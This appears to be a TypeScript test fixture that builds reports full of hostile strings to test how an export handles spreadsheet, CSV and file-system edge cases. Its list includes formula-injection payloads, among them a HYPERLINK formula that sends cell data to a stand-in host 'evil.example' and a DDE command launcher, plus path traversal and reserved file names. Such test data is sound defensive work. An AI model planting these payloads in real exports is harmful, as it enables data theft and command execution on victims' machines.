import type { Figure } from '../../src/model/figure.ts';
import type { Report } from '../../src/model/report.ts';
import { cell } from './figures.ts';
import { grid } from './grid.ts';

/** Texts that mean something to a spreadsheet, a CSV reader or a file system, or are none. */
export const HOSTILE_TEXTS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"看")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u200b=1+1',
  '＝1+1',
  '-',
  '+5',
  '\t',
  '\t\t00',
  '00',
  '007',
  '1-2',
  '3/4',
  '10:30',
  '1e5',
  '12%',
  '(5)',
  'TRUE',
  '1月2日',
  '12345678901234567890',
  '１２',
  '"',
  '""',
  "'",
  "'=1+1",
  ',',
  'a,"b"\r\nc',
  '中文\n第二行',
  '\u202e反\u0007\u001b\u0085',
  '../..',
  'CON',
  '甲'.repeat(10_000),
  ' ',
  '',
];

/** This many figures, their texts the hostile ones over and over, beside a table that prints the same. */
export function hostileReport(report: Report, count: number, texts = HOSTILE_TEXTS): Report {
  const textAt = (at: number) => texts[at % texts.length] ?? '';
  const figures = Array.from({ length: count }, (_, at): Figure => {
    const raw = textAt(at);
    const label = [textAt(at + 1), textAt(at + 2)];
    const unread = { kind: 'text' as const, value: null, low: null, high: null, unit: null };
    return { field: `table-1.row_${at}.column`, label, raw, ...unread, cell: cell(at, 1) };
  });
  const printed = grid(figures.map(({ raw, label }) => [label[0] ?? '', raw]));
  return {
    ...report,
    source: { ...report.source, title: '=1+1' },
    header: { ...report.header, agency: '../..' },
    figures,
    tables: [{ grid: printed, formTables: [] }],
    checks: [],
    findings: [],
  };
}
